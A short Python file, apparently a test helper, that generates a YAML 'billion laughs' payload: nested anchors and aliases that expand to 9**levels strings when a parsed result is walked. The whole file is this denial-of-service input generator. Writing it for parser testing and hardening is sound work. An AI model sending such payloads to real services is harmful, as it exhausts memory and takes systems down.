"""YAML "billion laughs": a few hundred bytes of anchors and aliases that stand for hundreds
of millions of strings once a parser's result is walked (printed, copied, repr'd)."""

from __future__ import annotations

import itertools


def alias_bomb(levels: int = 9) -> str:
    """A flow list whose last item holds 9**levels strings, through `levels` anchors."""
    names = "abcdefghijklmnopqrstuvwxyz"[:levels]
    items = ["&a [" + ",".join(["lol"] * 9) + "]"]
    items += [
        f"&{name} [" + ",".join([f"*{before}"] * 9) + "]"
        for before, name in itertools.pairwise(names)
    ]
    return "[" + ",".join(items) + "]"
